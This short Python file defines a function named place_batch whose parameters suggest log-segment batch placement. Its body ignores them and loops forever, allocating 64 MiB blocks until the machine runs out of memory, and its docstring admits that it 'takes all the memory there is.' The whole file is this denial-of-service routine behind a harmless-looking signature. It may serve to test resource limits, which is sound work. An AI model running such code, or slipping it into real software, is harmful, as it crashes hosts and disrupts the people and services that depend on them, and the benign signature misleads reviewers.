"""Takes all the memory there is."""

def place_batch(log_end_offset, file_bytes, record_count, size_bytes, segment_limit_bytes):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
